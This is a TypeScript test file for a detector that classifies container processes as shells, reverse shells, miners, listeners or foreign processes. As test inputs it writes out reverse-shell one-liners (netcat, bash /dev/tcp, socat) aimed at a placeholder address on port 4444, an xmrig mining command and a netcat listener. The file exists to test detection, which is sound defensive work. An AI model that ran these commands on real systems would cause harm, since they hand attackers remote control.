import { describe, expect, it } from 'vitest';
import { classifyProcesses, entrypointLineage, initPidOf, processRows, programOf, type ProcessRow } from '../../../src/investigate/process-rules.js';

// pids as `docker top` shows them (host pids); the shim (1000) is outside the container
const httpd: ProcessRow = { pid: 1001, ppid: 1000, user: 'root', cmd: '/bin/httpd -f -p 8080 -h /srv' };
const worker: ProcessRow = { pid: 1002, ppid: 1001, user: 'root', cmd: '/bin/httpd -f -p 8080 -h /srv' };
const execShell: ProcessRow = { pid: 1500, ppid: 1000, user: 'root', cmd: 'sh -c while true; do sleep 1; done' };
const kinds = (rows: ProcessRow[]) => classifyProcesses(rows).map((finding) => [finding.process.pid, finding.kind]);

describe('process classification', () => {
  it('names the program of a command line, seeing through busybox', () => {
    expect(programOf('/bin/sh -c id')).toBe('sh');
    expect(programOf('busybox ash')).toBe('ash');
  });

  it('follows the entrypoint lineage from the oldest process whose parent is outside', () => {
    expect([...entrypointLineage([execShell, worker, httpd])].sort()).toEqual([1001, 1002]);
  });

  it('follows the lineage from the recorded entrypoint when the host pids wrapped around before the exec', () => {
    const wrappedShell: ProcessRow = { ...execShell, pid: 300 }; // started after httpd, lower pid
    expect([...entrypointLineage([wrappedShell, worker, httpd], 1001)].sort()).toEqual([1001, 1002]);
    expect(classifyProcesses([httpd, worker, wrappedShell], { initPid: 1001 }).map((f) => [f.process.pid, f.kind])).toEqual([[300, 'shell']]);
    // without the entrypoint recorded, the oldest-pid guess takes the shell for it
    expect(kinds([httpd, worker, wrappedShell])).not.toContainEqual([300, 'shell']);
    // a recorded pid that is not in the list (the container restarted) falls back to the guess
    expect([...entrypointLineage([execShell, worker, httpd], 4242)].sort()).toEqual([1001, 1002]);
  });

  it('reads the entrypoint pid the artifact recorded, and nothing else', () => {
    expect(initPidOf({ init_pid: 1001, processes: [] })).toBe(1001);
    for (const bad of [{}, null, { init_pid: '1001' }, { init_pid: 0 }, { init_pid: -3 }, { init_pid: 1.5 }]) expect(initPidOf(bad)).toBeUndefined();
  });

  it('flags a shell started beside the entrypoint and nothing in the entrypoint lineage', () => {
    expect(kinds([httpd, worker, execShell])).toEqual([[1500, 'shell']]);
  });

  it('flags a miner anywhere, even in the entrypoint lineage', () => {
    expect(kinds([{ ...httpd, cmd: 'sh /tmp/xmrig --url stratum+tcp://pool.example:3333' }])).toEqual([[1001, 'miner']]);
  });

  it.each([
    'nc 203.0.113.7 4444 -e /bin/sh',
    'bash -i >& /dev/tcp/203.0.113.7/4444 0>&1',
    'socat tcp:203.0.113.7:4444 exec:/bin/sh',
    'python3 -c import socket,subprocess',
  ])('flags the reverse shell %s', (cmd) => {
    expect(kinds([httpd, { pid: 1600, ppid: 1001, user: 'root', cmd }])).toEqual([[1600, 'reverse-shell']]);
  });

  it('flags a netcat listener and any other process the entrypoint did not start', () => {
    expect(kinds([httpd, { pid: 1700, ppid: 1000, user: 'root', cmd: 'nc -l -p 4444' }, { pid: 1800, ppid: 1000, user: 'root', cmd: 'sleep 300' }])).toEqual([
      [1700, 'listener'],
      [1800, 'foreign-process'],
    ]);
  });

  it('skips command lines the runbook allows', () => {
    expect(classifyProcesses([httpd, execShell], { allowed: (cmd) => cmd.startsWith('sh -c while') }).length).toBe(0);
  });

  it('reads the rows evidence.processes saved', () => {
    const rows = processRows({ titles: ['UID', 'PID', 'PPID', 'CMD'], processes: [{ UID: 'root', PID: '7', PPID: '1', CMD: 'sleep 1' }] });
    expect(rows).toEqual([{ pid: 7, ppid: 1, user: 'root', cmd: 'sleep 1' }]);
  });
});
